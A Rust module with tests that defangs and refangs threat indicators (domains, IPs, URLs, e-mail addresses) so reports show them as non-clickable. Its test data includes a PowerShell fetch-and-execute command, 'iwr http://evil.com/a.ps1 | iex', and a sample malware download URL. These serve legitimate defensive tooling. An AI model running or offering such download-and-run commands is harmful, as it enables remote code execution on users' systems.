//! Defanging: showing an indicator so that nobody opens it by a click, and the way back.
//!
//! Entries hold live values; outputs that people read defang them. What is defanged depends on what the value is: a dot in
//! a domain is one thing, a dot in a file name another.

use super::host;
use super::vocabulary::IndicatorType;
use core::net::IpAddr;

/// The value of an indicator as reports show it; its type decides what is taken apart.
pub fn defang_value(kind: IndicatorType, value: &str) -> String {
    use IndicatorType as Type;
    match kind {
        Type::IpSrc | Type::IpDst | Type::IpDstPort | Type::Domain | Type::Hostname => bracketed(value, ".:"),
        Type::Url if value.contains("://") => defang_links(value),
        Type::Url => defang_head(value),
        Type::Email | Type::EmailSrc | Type::EmailDst => defang_email(value),
        Type::Filename | Type::FilenameSha256 => value.to_owned(),
        Type::Other => defang(value),
        _ => defang_links(value),
    }
}

/// A value of unknown type as reports show it: links, IP addresses, e-mail addresses, and names under a top-level domain
/// that exists. Everything else, such as the file name `a.b.exe`, stays as it is.
pub fn defang(text: &str) -> String {
    if text.contains("://") || text.contains(char::is_whitespace) {
        return defang_links(text);
    }
    if text.parse::<IpAddr>().is_ok() {
        return bracketed(text, ".:");
    }
    let name = host::host_of(text);
    if !host::has_known_top_level(name) && name.parse::<IpAddr>().is_err() {
        return text.to_owned();
    }
    if text.contains('@') { defang_email(text) } else { defang_head(text) }
}

/// A text in which every link is taken apart; the rest stays as it is.
pub fn defang_links(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let (before, after) = rest.split_at(at);
        let scheme_start = before
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || "+.-".contains(c)))
            .map_or(0, |last| last + before[last..].chars().next().map_or(1, char::len_utf8));
        out.push_str(&before[..scheme_start]);
        out.push_str(&defanged_scheme(&before[scheme_start..]));
        let after = &after[3..];
        let end = after.find(|c: char| c.is_whitespace() || "/?#\\\"'<>|)`".contains(c)).unwrap_or(after.len());
        out.push_str(&defanged_authority(&after[..end]));
        rest = &after[end..];
    }
    out.push_str(rest);
    out
}

/// Turns what is defanged into what it stands for; a live value stays as it is.
pub fn refang(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    'text: while let Some(next) = rest.chars().next() {
        if " [({".contains(next) {
            for (defanged, live) in MARKS {
                if rest.get(..defanged.len()).is_some_and(|start| start.eq_ignore_ascii_case(defanged)) {
                    out.push_str(live);
                    rest = &rest[defanged.len()..];
                    continue 'text;
                }
            }
        }
        out.push(next);
        rest = &rest[next.len_utf8()..];
    }
    refang_schemes(&out)
}

/// Whether a value of this type is written defanged. In what is not a name, an address or a link, brackets mean nothing.
pub fn is_defanged(kind: IndicatorType, value: &str) -> bool {
    use IndicatorType as Type;
    match kind {
        Type::Url => {
            let authority = value.find("//").map_or(0, |at| at + 2);
            let end = value[authority..].find('/').map_or(value.len(), |at| authority + at);
            has_mark(&value[..end]) && refang(&value[..end]) != value[..end]
        }
        Type::IpSrc | Type::IpDst | Type::IpDstPort | Type::Domain | Type::Hostname => {
            has_mark(value) && refang(value) != value
        }
        Type::Email | Type::EmailSrc | Type::EmailDst => has_mark(value) && refang(value) != value,
        _ => false,
    }
}

/// Whether a text may be defanged at all; most are not, and need no copy to be found so.
fn has_mark(text: &str) -> bool {
    text.bytes().any(|byte| b"[({xX*".contains(&byte))
}

const MARKS: &[(&str, &str)] = &[
    (" [dot] ", "."),
    (" (dot) ", "."),
    (" [.] ", "."),
    (" [at] ", "@"),
    (" (at) ", "@"),
    (" [@] ", "@"),
    ("[.]", "."),
    ("(.)", "."),
    ("{.}", "."),
    ("[dot]", "."),
    ("(dot)", "."),
    ("{dot}", "."),
    ("[://]", "://"),
    ("[:]", ":"),
    ("(:)", ":"),
    ("[/]", "/"),
    ("[@]", "@"),
    ("(@)", "@"),
    ("{@}", "@"),
    ("[at]", "@"),
    ("(at)", "@"),
    ("{at}", "@"),
];

/// The schemes that are written otherwise, so that no program takes them for a link.
const SCHEMES: &[(&str, &str)] = &[("http", "hxxp"), ("https", "hxxps"), ("ftp", "fxp"), ("ftps", "fxps")];

/// What else people write for a scheme.
const OTHER_SCHEMES: &[(&str, &str)] =
    &[("http", "h**p"), ("https", "h**ps"), ("http", "htxp"), ("https", "htxps"), ("http", "hxtp"), ("https", "hxtps")];

fn defanged_scheme(scheme: &str) -> String {
    match SCHEMES.iter().find(|(live, _)| scheme.eq_ignore_ascii_case(live)) {
        Some((_, defanged)) if is_shouted(scheme) => format!("{}://", defanged.to_ascii_uppercase()),
        Some((_, defanged)) => format!("{defanged}://"),
        None if SCHEMES.iter().any(|(_, defanged)| scheme.eq_ignore_ascii_case(defanged)) => format!("{scheme}://"),
        None => format!("{scheme}[:]//"),
    }
}

/// A host with its port and user: the dots are taken apart, and the colons of an IPv6 address.
fn defanged_authority(authority: &str) -> String {
    match authority.split_once('[').and_then(|(before, rest)| Some((before, rest.split_once(']')?))) {
        Some((before, (address, after))) if address.parse::<IpAddr>().is_ok() => {
            format!("{}[{}]{}", bracketed(before, "."), bracketed(address, ".:"), bracketed(after, "."))
        }
        _ => bracketed(authority, "."),
    }
}

/// A host that is followed by a port or a path.
fn defang_head(text: &str) -> String {
    let end = text.find(['/', '?', '#', '\\']).unwrap_or(text.len());
    format!("{}{}", defanged_authority(&text[..end]), &text[end..])
}

fn defang_email(text: &str) -> String {
    match text.rsplit_once('@') {
        Some((local, domain)) if local.ends_with('[') => format!("{local}@{}", bracketed(domain, ".:")),
        Some((local, domain)) => format!("{local}[@]{}", bracketed(domain, ".:")),
        None => bracketed(text, "."),
    }
}

/// The text with each of these characters in brackets, where it is not in brackets already.
fn bracketed(text: &str, marks: &str) -> String {
    let mut out = String::with_capacity(text.len() + 12);
    let mut before = None;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let already = before == Some('[') && chars.peek() == Some(&']');
        if marks.contains(c) && !already {
            out.extend(['[', c, ']']);
        } else {
            out.push(c);
        }
        before = Some(c);
    }
    out
}

fn refang_schemes(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let (before, after) = rest.split_at(at);
        let start = before
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '*'))
            .map_or(0, |last| last + before[last..].chars().next().map_or(1, char::len_utf8));
        let scheme = &before[start..];
        let known = SCHEMES.iter().chain(OTHER_SCHEMES).find(|(_, defanged)| scheme.eq_ignore_ascii_case(defanged));
        out.push_str(&before[..start]);
        match known {
            Some((live, _)) if is_shouted(scheme) => out.push_str(&live.to_ascii_uppercase()),
            Some((live, _)) => out.push_str(live),
            None => out.push_str(scheme),
        }
        out.push_str("://");
        rest = &after[3..];
    }
    out.push_str(rest);
    out
}

fn is_shouted(scheme: &str) -> bool {
    scheme.bytes().any(|byte| byte.is_ascii_uppercase()) && !scheme.bytes().any(|byte| byte.is_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::{defang, defang_links, defang_value, is_defanged, refang};
    use crate::values::vocabulary::IndicatorType as Type;
    use core::net::{Ipv4Addr, Ipv6Addr};
    use proptest::prelude::*;

    #[test]
    fn the_type_decides_what_is_taken_apart() {
        for (kind, live, defanged) in [
            (Type::Domain, "evil.com", "evil[.]com"),
            (Type::Hostname, "DC01", "DC01"),
            (Type::Hostname, "c137.local", "c137[.]local"),
            (Type::IpDst, "194.61.24.102", "194[.]61[.]24[.]102"),
            (Type::IpDst, "2001:db8::1", "2001[:]db8[:][:]1"),
            (Type::IpDst, "::ffff:1.2.3.4", "[:][:]ffff[:]1[.]2[.]3[.]4"),
            (Type::IpDstPort, "194.61.24.102|443", "194[.]61[.]24[.]102|443"),
            (Type::Url, "http://194.61.24.102/coreupdater.exe", "hxxp://194[.]61[.]24[.]102/coreupdater.exe"),
            (Type::Url, "HTTPS://Evil.com:8443/a?b=c.d#e", "HXXPS://Evil[.]com:8443/a?b=c.d#e"),
            (Type::Url, "ftp://u:p@evil.com", "fxp://u:p@evil[.]com"),
            (Type::Url, "ssh://evil.com", "ssh[:]//evil[.]com"),
            (Type::Url, "http://[2001:db8::1]:80/x", "hxxp://[2001[:]db8[:][:]1]:80/x"),
            (Type::Url, "http://a.com/?u=http://b.com/c", "hxxp://a[.]com/?u=hxxp://b[.]com/c"),
            (Type::Url, "evil.com/a.php", "evil[.]com/a.php"),
            (Type::EmailSrc, "john.doe@evil.com", "john.doe[@]evil[.]com"),
            (Type::Filename, "a.b.exe", "a.b.exe"),
            (Type::FilenameSha256, "evil.com|e3b0", "evil.com|e3b0"),
            (Type::Sha256, "e3b0", "e3b0"),
            (Type::CommandLine, "iwr http://evil.com/a.ps1 | iex", "iwr hxxp://evil[.]com/a.ps1 | iex"),
            (Type::Regkey, "HKLM\\Software\\a.b", "HKLM\\Software\\a.b"),
        ] {
            assert_eq!(defang_value(kind, live), defanged, "{live}");
            assert_eq!(defang_value(kind, defanged), defanged, "twice: {live}");
            assert_eq!(refang(defanged), live);
        }
    }

    #[test]
    fn a_value_of_unknown_type_is_taken_for_what_it_looks_like() {
        for (live, defanged) in [
            ("a.b.exe", "a.b.exe"),
            ("coreupdater.exe", "coreupdater.exe"),
            ("evil.com", "evil[.]com"),
            ("evil.com/a", "evil[.]com/a"),
            ("evil.com:443", "evil[.]com:443"),
            ("1.2.3.4:443", "1[.]2[.]3[.]4:443"),
            ("fe80::1", "fe80[:][:]1"),
            ("bob@evil.com", "bob[@]evil[.]com"),
            ("version 1.2.3.4", "version 1.2.3.4"),
            ("", ""),
        ] {
            assert_eq!(defang(live), defanged);
        }
        assert_eq!(defang_links("„http://évil.com“ x://"), "„hxxp://évil[.]com“ x[:]//");
    }

    #[test]
    fn what_people_write_is_understood() {
        for (defanged, live) in [
            ("hXXp://evil[.]com", "http://evil.com"),
            ("hxxps[:]//evil(.)com/a", "https://evil.com/a"),
            ("h**p://evil{.}com", "http://evil.com"),
            ("hxxp[://]evil[dot]com", "http://evil.com"),
            ("evil [dot] com", "evil.com"),
            ("bob[at]evil.com", "bob@evil.com"),
            ("bob (at) evil (dot) com", "bob@evil.com"),
            ("1[.]2[.]3.4", "1.2.3.4"),
            ("fxp://evil[.]com", "ftp://evil.com"),
            ("HXXP://EVIL[DOT]COM", "HTTP://EVIL.COM"),
            ("a[b].c (d) {e", "a[b].c (d) {e"),
        ] {
            assert_eq!(refang(defanged), live);
        }
    }

    #[test]
    fn brackets_count_only_where_they_can_be_defanging() {
        for (kind, value, expected) in [
            (Type::Domain, "evil[.]com", true),
            (Type::Url, "hxxp://evil.com", true),
            (Type::Url, "http://evil[.]com/x", true),
            (Type::Url, "http://evil.com/a?b[at]=1", false),
            (Type::Url, "http://[2001:db8::1]/", false),
            (Type::Email, "bob[@]evil.com", true),
            (Type::Filename, "invoice[.]exe", false),
            (Type::CommandLine, "x[.]y", false),
            (Type::IpSrc, "1.2.3.4", false),
            (Type::Domain, "xbox.com", false),
        ] {
            assert_eq!(is_defanged(kind, value), expected, "{value}");
        }
    }

    fn name() -> impl Strategy<Value = String> {
        "([a-z0-9]([a-z0-9-]{0,8}[a-z0-9])?\\.){1,3}(com|ru|net|xyz|co\\.uk)"
    }

    fn host() -> impl Strategy<Value = String> {
        prop_oneof![
            name(),
            any::<u32>().prop_map(|bits| Ipv4Addr::from(bits).to_string()),
            any::<u128>().prop_map(|bits| format!("[{}]", Ipv6Addr::from(bits))),
        ]
    }

    proptest! {
        #[test]
        fn addresses_and_names_come_back(v4: u32, v6: u128, name in name(), local in "[a-z0-9._+-]{1,20}") {
            for (kind, live) in [
                (Type::IpSrc, Ipv4Addr::from(v4).to_string()),
                (Type::IpDst, Ipv6Addr::from(v6).to_string()),
                (Type::IpDstPort, format!("{}|443", Ipv6Addr::from(v6))),
                (Type::Domain, name.clone()),
                (Type::Email, format!("{local}@{name}")),
            ] {
                let defanged = defang_value(kind, &live);
                prop_assert_ne!(&defanged, &live);
                prop_assert_eq!(refang(&defanged), live.clone());
                prop_assert_eq!(defang_value(kind, &defanged), defanged.clone());
                prop_assert_eq!(refang(&defang(&live)), live);
            }
        }

        #[test]
        fn links_come_back(
            scheme in "(http|https|HTTP|ftp|ftps|ssh|smb)", host in host(), port in proptest::option::of(1u16..),
            path in "(/[A-Za-z0-9._~%!$&'*+,;=:@-]{0,12}){0,3}", query in "(\\?[a-z]{1,5}=[A-Za-z0-9.%/:]{0,12})?",
        ) {
            let port = port.map(|port| format!(":{port}")).unwrap_or_default();
            let live = format!("{scheme}://{host}{port}{path}{query}");
            let defanged = defang_value(Type::Url, &live);
            prop_assert_eq!(refang(&defanged), live.clone());
            prop_assert!(!defanged.contains(&format!("{scheme}://")), "{}", defanged);
            prop_assert!(!defanged.contains(&host), "{}", defanged);
            prop_assert_eq!(defang_value(Type::Url, &defanged), defanged.clone());
        }

        #[test]
        fn nothing_panics(text in "\\PC{0,60}") {
            let _ = (defang(&text), refang(&text), defang_links(&text));
            for kind in Type::ALL {
                let _ = (defang_value(*kind, &text), is_defanged(*kind, &text));
            }
        }
    }
}
